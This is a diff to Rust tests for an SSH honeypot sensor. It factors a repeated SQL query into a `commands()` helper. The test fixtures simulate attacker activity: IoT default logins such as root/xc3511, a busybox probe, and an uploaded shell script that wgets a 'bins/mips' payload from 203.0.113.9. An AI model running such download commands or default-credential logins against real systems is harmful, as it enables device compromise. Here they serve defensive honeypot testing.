@@ -66,6 +66,14 @@ fn paramiko(script: &str) -> String {
     text
 }
 
+/// The `ssh.command` rows, in order: (input_type, user_input).
+fn commands(conn: &rusqlite::Connection) -> Vec<Vec<String>> {
+    rows(
+        conn,
+        "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command' ORDER BY ID",
+    )
+}
+
 /// A sensor with one SSH instance; its port.
 fn ssh_sensor() -> (RoleProcess, u16) {
     let [port] = ports();
@@ -120,10 +128,7 @@ fn openssh_password_login_and_exec() {
         [["password", "root", "xc3511", "NULL", "NULL", "accepted"]]
     );
     assert_eq!(
-        rows(
-            &conn,
-            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command' ORDER BY ID"
-        ),
+        commands(&conn),
         [["exec", "uname -a"], ["exec", "/bin/busybox ECCHI"]]
     );
     // The host key was generated beside the database, readable by the sensor only.
@@ -159,10 +164,7 @@ fn openssh_shell_on_stdin_and_with_a_terminal() {
     assert!(tty.contains("hello"), "{tty}");
     let (conn, _dir) = stop(sensor);
     assert_eq!(
-        rows(
-            &conn,
-            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command' ORDER BY ID"
-        ),
+        commands(&conn),
         [
             ["command", "cd /tmp"],
             ["command", "pwd"],
@@ -215,10 +217,7 @@ fn the_shell_takes_its_time_over_ssh() {
     );
     let (conn, _dir) = stop(sensor);
     assert_eq!(
-        rows(
-            &conn,
-            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command' ORDER BY ID"
-        ),
+        commands(&conn),
         [
             ["exec", "echo before"],
             ["exec", "sleep 2"],
@@ -430,13 +429,7 @@ fn paramiko_password_login_and_exec() {
         ),
         [["password", "admin", "admin123", "accepted"]]
     );
-    assert_eq!(
-        rows(
-            &conn,
-            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command'"
-        ),
-        [["exec", "cat /proc/version"]]
-    );
+    assert_eq!(commands(&conn), [["exec", "cat /proc/version"]]);
     let version = rows(
         &conn,
         "SELECT version FROM ssh WHERE eventType = 'ssh.client'",
@@ -496,13 +489,7 @@ fn scp_upload_is_recorded_as_a_written_file() {
         data[0][0],
         "#!/bin/sh\nwget http://203.0.113.9/bins/mips -O /tmp/m\n"
     );
-    assert_eq!(
-        rows(
-            &conn,
-            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command'"
-        ),
-        [["exec", "scp -t /tmp/"]]
-    );
+    assert_eq!(commands(&conn), [["exec", "scp -t /tmp/"]]);
 }
 
 #[test]
